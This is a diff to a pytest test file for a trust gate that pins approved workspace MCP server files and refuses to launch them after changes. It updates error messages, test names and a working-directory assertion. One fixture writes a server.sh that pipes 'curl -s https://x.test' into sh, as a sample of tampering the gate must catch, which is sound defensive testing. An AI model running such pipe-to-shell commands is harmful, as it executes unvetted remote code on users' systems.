@@ -77,7 +77,7 @@ def test_changed_pinned_file_is_refused(cli: Cli, ws: Path, trust_file: Path,
     tasks = server(ws, "tasks", user_config)
     admit(tasks, ws, trust_file)
     (ws / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
-    with pytest.raises(TrustRefused, match=r"\(file server.sh content changed\)"):
+    with pytest.raises(TrustRefused, match=r"\(file server.sh modified\)"):
         admit(tasks, ws, trust_file)
 
 
@@ -159,14 +159,16 @@ def test_a_file_swapped_between_the_gate_and_the_launch_is_refused(
     assert raised.value.exit_code is ExitCode.TRUST_REFUSED
 
 
-def test_the_launch_refuses_a_file_past_a_bound_it_reaches(
+def test_the_launch_hashes_a_big_file_it_reaches_and_refuses_a_swap(
     cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
 ) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
     admission = admit(server(ws, "tasks", user_config), ws, trust_file)
     os.truncate(ws / "server.sh", MAX_BYTES + 1)
-    with pytest.raises(TrustRefused, match=r"^server 'tasks' is unpinnable: it names more "
-                                           r"workspace code than mcpctl can pin \(server\.sh: "):
+    # Past the named-file bound, yet hashed: a workspace server's files are its set's.
+    with pytest.raises(TrustRefused, match=r"^server 'tasks' not started: its resolved command "
+                                           r"line reaches workspace file server\.sh, which is "
+                                           r"not the content that was approved"):
         resolve_launch(admission, os.environ, isolated_home, no_secret)
 
 
@@ -187,12 +189,12 @@ def test_the_gate_pins_with_the_environment_the_launch_gets(
     # The same definition where WHERE names another file is a change: fail closed.
     with pytest.raises(TrustRefused) as raised:
         admit(tasks, ws, trust_file, environ={"WHERE": str(ws / "b")}, home=isolated_home)
+    # Both files are in the workspace and unchanged, but the headline is in the fingerprint.
     assert str(raised.value).startswith(
-        "server 'tasks' changed since it was approved (file a/run.sh no longer pinned (gone, "
-        "or no longer named); file b/run.sh now pinned (newly named or created))")
+        """server 'tasks' changed since it was approved (named: ["a/run.sh"] → ["b/run.sh"])""")
 
 
-def test_a_workspace_server_starts_at_the_root_a_user_server_where_it_is_started(
+def test_a_workspace_server_starts_at_the_root_a_user_server_at_home(
     cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
 ) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
@@ -202,4 +204,4 @@ def test_a_workspace_server_starts_at_the_root_a_user_server_where_it_is_started
     write(user_config, '[servers.mine]\ncommand = "mine"\n')
     user = resolve_launch(admit(server(ws, "mine", user_config), ws, trust_file),
                           os.environ, isolated_home, no_secret)
-    assert user.cwd is None
+    assert user.cwd == str(isolated_home)  # never the project: its files were not approved
